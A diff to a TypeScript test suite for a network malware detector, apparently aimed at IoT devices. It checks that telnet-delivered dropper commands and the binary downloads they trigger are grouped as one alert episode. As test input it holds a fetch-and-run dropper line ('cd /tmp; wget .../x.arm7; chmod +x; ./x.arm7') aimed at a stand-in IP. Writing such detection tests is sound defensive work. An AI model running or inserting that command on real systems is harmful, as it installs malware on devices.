@@ -137,8 +137,14 @@ describe('dropper commands sent to a device', () => {
       /was sent a command over telnet from 203\.0\.113\.9 \(internet\) to fetch and run http:\/\/198\.51\.100\.7\/bins\/x\.arm7 \(wget\)/,
     );
     expect(found[0].evidence).toMatchObject({
-      command: { service: 'telnet', tool: 'wget', from: '203.0.113.9', fromLan: false, runs: true },
-      commanded: 1,
+      command: {
+        service: 'telnet',
+        tool: 'wget',
+        from: '203.0.113.9',
+        fromLan: false,
+        runs: true,
+        count: 1,
+      },
     });
     // Privacy: no record carries the session's text (the password, the command line).
     const text = JSON.stringify(records);
@@ -211,35 +217,48 @@ describe('dropper commands sent to a device', () => {
     expect(found[0].summary).toContain('to fetch and run tftp://198.51.100.7/x.mips (tftp)');
   });
 
-  it('the command and the download it asked for are one episode', async () => {
-    const cmd = 'cd /tmp; wget http://198.51.100.7/bins/x.arm7; chmod +x x.arm7; ./x.arm7\r\n';
+  /** The device fetching `elf` from LOADER over HTTP at `t`. */
+  function fetchElf(t: number): Timed[] {
     const elf = Buffer.concat([
       Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0]),
       Buffer.alloc(600, 7),
     ]);
     const get = 'GET /bins/x.arm7 HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: Wget\r\n\r\n';
-    const resp = Buffer.concat([
-      Buffer.from(
-        `HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: ${elf.length}\r\n\r\n`,
-      ),
-      elf,
-    ]);
-    const t = T0 + 5;
-    const download: Timed[] = [
-      [t + 3, tcpOut(LOADER, 80, SYN, '', 40_200)],
-      [t + 3.01, tcpIn(LOADER, 80, SYN_ACK, '', 40_200)],
-      [t + 3.02, tcpOut(LOADER, 80, PSH_ACK, get, 40_200)],
-      [t + 3.05, tcpIn(LOADER, 80, PSH_ACK, resp, 40_200)],
+    const head = `HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: ${elf.length}\r\n\r\n`;
+    return [
+      [t, tcpOut(LOADER, 80, SYN, '', 40_200)],
+      [t + 0.01, tcpIn(LOADER, 80, SYN_ACK, '', 40_200)],
+      [t + 0.02, tcpOut(LOADER, 80, PSH_ACK, get, 40_200)],
+      [t + 0.05, tcpIn(LOADER, 80, PSH_ACK, Buffer.concat([Buffer.from(head), elf]), 40_200)],
     ];
+  }
+  const cmd = 'cd /tmp; wget http://198.51.100.7/bins/x.arm7; chmod +x x.arm7; ./x.arm7\r\n';
+
+  it('the command and the download it asked for are one episode', async () => {
+    const t = T0 + 5;
     const found = await malware([
       ...toDevice(t, internet, 23, [...login, cmd], { banner }),
-      ...download,
+      ...fetchElf(t + 3),
     ]);
     expect(found).toHaveLength(1);
     expect(found[0].summary).toMatch(
       /to fetch and run http:\/\/198\.51\.100\.7\/bins\/x\.arm7 \(wget\) at .*; it downloaded a Linux program \(ELF\) from a bare IP address: http:\/\/198\.51\.100\.7\/bins\/x\.arm7/,
     );
     expect(found[0].score).toBeGreaterThan(0.98);
+  });
+
+  it('a download in the next window joins the command’s episode', async () => {
+    const t = T0 + 5;
+    const all = [
+      ...checkIn(T0 + 1),
+      ...toDevice(t, internet, 23, [...login, cmd], { banner }),
+      ...fetchElf(t + 70),
+    ].sort((a, b) => a[0] - b[0]);
+    const alerts = alertsOf(await replayFiles([pcap(all)], { learnS: 0 }));
+    expect(alerts.filter((r) => r.state === 'open')).toHaveLength(1);
+    expect(new Set(alerts.map((r) => r.episode)).size).toBe(1);
+    const last = alerts[alerts.length - 1];
+    expect(last.summary).toMatch(/\(wget\) at .*; it downloaded a Linux program \(ELF\)/);
   });
 });
 
